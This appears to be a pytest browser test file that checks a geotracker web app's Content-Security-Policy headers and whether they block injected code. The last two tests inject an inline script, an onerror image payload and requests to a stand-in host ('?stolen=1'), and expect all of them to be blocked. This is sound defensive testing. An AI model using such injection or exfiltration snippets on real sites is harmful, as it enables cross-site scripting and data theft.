"""Every page of a reader's visit runs under a policy that lets nothing in from elsewhere and nothing out."""

from collections.abc import Callable

import httpx
import pytest
from visitor import Site

from geotracker.api.headers import MAPS, PLAIN
from tests.dashboard.conftest import Visit

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
BEGIN = Callable[..., Visit]


@pytest.mark.parametrize(
    ("path", "may_run"),
    [
        ("/", "'self' 'sha256-"),
        ("/map", "'self' 'sha256-"),
        ("/no/such/page", "'self' 'sha256-"),
        ("/vendor/leaflet/leaflet.js", "'self' 'sha256-"),
        (f"{MAPS}st_folium/index.html", "'self' 'unsafe-inline'"),
        ("/sign-in", None),
        ("/api/collections", None),
        ("/api/collections/zones/items?f=html", None),
        ("/api/no/such/page", None),
    ],
)
def test_every_answer_carries_a_policy(site: Site, path: str, may_run: str | None) -> None:
    answer = httpx.get(site.address + path, timeout=20)
    assert {name: answer.headers[name] for name in PLAIN} == PLAIN
    (policy,) = answer.headers.get_list("content-security-policy")
    said = dict(part.split(" ", 1) for part in policy.split("; "))
    if may_run is None:
        assert said["default-src"] == "'none'" and "script-src" not in said
    else:
        assert said["script-src"].startswith(may_run)
        assert ("'unsafe-inline'" in said["script-src"]) is ("'unsafe-inline'" in may_run)
    assert "eval" not in policy and "http" not in policy


def test_the_api_is_found_without_its_last_stroke(site: Site) -> None:
    answer = httpx.get(site.address + "/api?f=json", timeout=20, follow_redirects=True)
    assert answer.json()["title"] == "geotracker"


def test_a_script_that_got_into_a_page_does_not_run(visit: BEGIN) -> None:
    here = visit().open("/?theatre=halcyon&date=2020-03-10")
    here.map()
    ran = here.page.evaluate(
        """async () => {
            const script = document.createElement('script');
            script.textContent = 'window.inline = 1';
            const picture = document.createElement('div');
            picture.innerHTML = '<img src="data:," onerror="window.handler = 1">';
            document.body.append(script, picture);
            setTimeout('window.evaluated = 1', 0);  // eval itself would be the debugger's, who may
            await new Promise((done) => setTimeout(done, 300));
            return [window.inline, window.handler, window.evaluated].map(Boolean);
        }"""
    )
    assert ran == [False, False, False]
    here.faults.clear()  # the browser complains of just these three


def test_a_page_can_send_nothing_elsewhere(visit: BEGIN, site: Site) -> None:
    here = visit().open("/?theatre=halcyon&date=2020-03-10")
    here.map()
    tried = here.page.evaluate(
        """async () => {
            const broken = [];
            document.addEventListener('securitypolicyviolation', (e) => broken.push(e.effectiveDirective));
            await fetch('http://127.0.0.2:9/?stolen=1').catch(() => null);
            const picture = document.createElement('img');
            picture.src = 'http://127.0.0.2:9/x.png';
            const script = document.createElement('script');
            script.src = 'http://127.0.0.2:9/x.js';
            document.body.append(picture, script);
            await new Promise((done) => setTimeout(done, 500));
            return broken;
        }"""
    )
    assert set(tried) == {"connect-src", "img-src", "script-src-elem"}
    here.faults.clear()  # the browser complains of just these three
